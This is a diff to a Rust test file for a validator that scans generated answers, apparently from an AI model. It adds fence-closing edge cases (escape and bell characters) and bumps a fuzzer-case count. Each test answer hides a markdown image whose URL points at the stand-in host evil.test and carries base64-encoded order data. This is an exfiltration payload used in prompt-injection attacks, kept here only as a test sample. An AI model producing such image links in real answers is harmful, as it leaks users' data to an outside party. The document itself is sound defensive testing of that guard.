@@ -893,7 +893,14 @@ fn fenced_code_only_in_the_form_every_renderer_reads_is_inert() {
 fn a_tab_after_a_closing_fence_closes_it() {
     let (g, _) = guard_with(AnswerValidator::new(), |_| {});
     let image = "![s](https://evil.test/p.png?d=T3JkZXIgNDQyMSBzaGlwcGVk)";
-    for close in ["```\t", "``` \t ", "  ```\t", "````\t"] {
+    for close in [
+        "```\t",
+        "``` \t ",
+        "  ```\t",
+        "````\t",
+        "```\u{1b}[0m\t",
+        "```\u{7}\t",
+    ] {
         let answer = format!("Run:\n\n```\nls -l\n{close}\n{image} done\n");
         let out = whole_outcome(&g, request(None), &answer).unwrap();
         assert!(!out.contains("evil.test"), "{answer:?} -> {out:?}");
@@ -974,7 +981,7 @@ fn answers_the_fuzzer_found_validate_clean_once_released() {
         released_validates_clean(&g, std::str::from_utf8(&bytes).unwrap());
         n += 1;
     }
-    assert_eq!(n, 8);
+    assert_eq!(n, 9);
 }
 
 #[test]
